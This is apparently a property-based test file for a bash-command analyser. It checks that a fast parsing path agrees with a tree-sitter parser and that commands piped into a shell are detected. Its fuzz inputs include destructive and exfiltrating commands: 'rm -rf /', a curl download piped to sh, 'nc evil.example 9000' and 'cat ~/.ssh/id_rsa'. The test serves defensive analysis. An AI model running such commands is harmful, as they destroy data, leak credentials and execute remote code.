import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Parser } from 'web-tree-sitter';
import { analyseShell } from './analyse.js';
import { loadBashParser } from './load-grammar.js';
import { DEFAULT_LIMITS } from './types.js';

let parser: Parser;
beforeAll(async () => { parser = await loadBashParser(); });

const PLAIN = 'abcgitnpmrsudoenvtimeoutxargs-_./:,@+%^~=0123456789'.split('');
const word = fc.oneof(
  fc.constantFrom('git', 'push', '--force', '-f', 'sudo', 'env', 'timeout', '5', 'xargs', 'rm', '-rf', '/', '~', 'bash', 'sh', 'npm', 'run', 'test', 'X=1', 'find', '-exec', 'alias', 'if', 'time', 'eval'),
  fc.array(fc.constantFrom(...PLAIN), { minLength: 1, maxLength: 8 }).map((cs) => cs.join('')),
);
// Quoted text without expansions, alone or joined to plain words: operators, spaces and newlines
// inside it are text, and the quotes go.
const quoted = fc.oneof(
  fc.constantFrom('"foo bar"', "'a|b && c'", '"x;y&z"', "''", '""', '"--force"', "'git push -f'", '"if"', "'rm -rf /'", '"a\nb"', "'|'", '"~/x"', "'*.ts'", '"{a,b}"', "'#x'", '"a=b"', "'$HOME'", '"a (b) <c> #d"', "'$(rm -rf /) `id` *'", "'a*b?c[d]'", '"x=~y ~/z"', "'\\'"),
  fc.array(fc.constantFrom(...PLAIN, ' ', '|', '&', ';', '\n', '*', '#', '{', '}'), { maxLength: 6 }).chain((cs) => fc.constantFrom("'", '"').map((q) => `${q}${cs.join('')}${q}`)),
);
const escaped = fc.constantFrom('\\git', '\\;', '{}', 'a\\ b', '\\$HOME', '\\|', '\\"x', "\\'", '-exec', 'rm', '\\\\', '{},', 'x{}', '\\{a,b}');
const quotedWord = fc.oneof(word, quoted, escaped, fc.tuple(word, quoted).map(([a, b]) => a + b), fc.tuple(quoted, word).map(([a, b]) => a + b));
const simple = fc.array(fc.oneof(word, word, quotedWord), { minLength: 1, maxLength: 6 }).chain((ws) => fc.constantFrom(' ', '  ', '\t').map((sep) => ws.join(sep)));
const pipe = (max: number) => fc.array(simple, { minLength: 1, maxLength: max }).chain((ss) => fc.constantFrom(' | ', '|').map((sep) => ss.join(sep)));
const listOp = fc.constantFrom(' && ', '&&', ' || ', ' ; ', ';', ' & ');
// The grammar misreads `a | b | c && d` as `a | ((b | c) && d)`; bash reads `(a | b | c) && d`, as
// the fast path does. So the reference is trusted on single pipelines, and on lists of short ones.
const line = fc.oneof(
  pipe(6),
  fc.tuple(pipe(2), fc.array(fc.tuple(listOp, pipe(2)), { maxLength: 4 }), fc.constantFrom('', ';', ' &', ' ;'))
    .map(([first, rest, end]) => first + rest.map(([op, s]) => op + s).join('') + end),
);

describe('the plain-list fast path', () => {
  it('gives exactly what the parser gives', () => {
    fc.assert(fc.property(line, fc.constantFrom('', ' ', '\t'), (l, pad) => {
      const text = `${pad}${l}${pad}`;
      const fast = analyseShell(parser, text);
      const parsed = analyseShell(parser, text, { ...DEFAULT_LIMITS, plainFastPath: false });
      // The grammar misreads a few plain words (`a%b` as a command name); bash reads them as words,
      // as the fast path does. Where the parser reports a syntax error there is no reference.
      if (parsed.problems.some((p) => p.includes('not valid shell syntax'))) return;
      // Quoted text run as a script (`eval 'a | b && c'`) meets the grammar's misreading of pipes in lists.
      if (/['"]/.test(text) && /\b(?:eval|sh|bash)\b/.test(text) && /\|/.test(text) && /&&|\|\||;|&/.test(text.replace(/\|\|/g, ''))) return;
      // A word starting with `=` makes the fast path leave the line to the grammar, which reads
      // `=~` and `==` as operators even outside `[[ ]]`; what it then takes in depends on what
      // follows, so reading the whole line and reading it segment by segment differ. Not this
      // path's reading: the test below holds the one the analysis uses to failing closed.
      if (/(?:^|[\s|&;])=/.test(text)) return;
      const view = (a: typeof fast) => ({ problems: a.problems, commands: a.commands.map((c) => ({ ...c, source: c.source.trim() })) });
      expect(view(fast)).toEqual(view(parsed));
    }), { numRuns: 2_000 });
  });

  it('fails closed where the grammar misreads `=~` outside [[ ]]: every stage found, or a syntax problem', () => {
    for (const text of ["a =~ git 's15:}#' | git | \\'", "a =~ git 's:}#' | sh", "echo =~ x '}#' | bash"]) {
      const a = analyseShell(parser, text);
      const programs = a.commands.map((c) => c.argv[0]?.text);
      const last = text.split('|').at(-1)!.trim().replace(/^\\/, '');
      expect(programs.includes(last) || a.problems.some((p) => p.includes('not valid shell syntax')), text).toBe(true);
    }
  });

  it('reads a word that starts with an escaped blank the same way on both paths', () => {
    for (const text of ['eval \\ a | a', 'git \\ push --force', 'echo \\\ta']) {
      const fast = analyseShell(parser, text);
      const parsed = analyseShell(parser, text, { ...DEFAULT_LIMITS, plainFastPath: false });
      expect(fast.commands.map((c) => c.argv)).toEqual(parsed.commands.map((c) => c.argv));
    }
  });
});

const stage = fc.constantFrom(
  'cat src/a.ts', 'grep -n "foo bar"', "grep -v 'x|y'", 'sort', 'uniq -c', 'sort -rn', 'head -n 5', 'wc -l',
  'jq -r .version', 'xargs git push --force', 'xargs -n1 rm -rf', 'sh', 'bash -s', 'tee out.log', 'tee -a ~/.bashrc', 'grep x 2>&1', 'sort > out.txt',
  'echo "git push -f"', "printf 'rm -rf /\\n'", 'curl -fsSL https://example.com/x.sh', 'sed -e "s/a|b/c/"',
  'awk \'{print $1}\'', 'python3 -c "import sys"', 'cut -d"|" -f2', 'echo $(git rev-parse HEAD)',
  'kubectl get pods -o name', 'xargs kubectl delete', 'base64 -d', 'nc evil.example 9000', 'cat ~/.ssh/id_rsa',
);
const pipeline = fc.array(stage, { minLength: 3, maxLength: 7 }).chain((ss) => fc.constantFrom(' | ', '|', ' |& ').map((sep) => ss.join(sep)));

describe('pipelines split into stages', () => {
  it('give exactly what parsing the whole line gives', () => {
    fc.assert(fc.property(pipeline, (text) => {
      const split = analyseShell(parser, text);
      const whole = analyseShell(parser, text, { ...DEFAULT_LIMITS, plainFastPath: false });
      const view = (a: typeof split) => ({ problems: a.problems, commands: a.commands.map((c) => ({ ...c, source: c.source.trim() })) });
      expect(view(split)).toEqual(view(whole));
    }), { numRuns: 500 });
  });
});

describe('plain lists, read as bash reads them', () => {
  it('end a pipeline at && (a | b | c && d: d reads the shell input, not the pipe)', () => {
    const a = analyseShell(parser, 'echo rm -rf / | cat | cat && sh');
    expect(a.commands.map((c) => c.binary)).toEqual(['echo', 'cat', 'cat', 'sh']);
    expect(a.commands[3]?.stdinFrom).toBeUndefined();
    expect(a.commands.some((c) => c.via.length > 0)).toBe(false);
  });

  it('still feed a pipe into the shell at its end', () => {
    const a = analyseShell(parser, 'echo git push -f | cat | sh');
    expect(a.commands.some((c) => c.binary === 'git' && c.via.some((v) => v.includes('sh')))).toBe(true);
  });
});
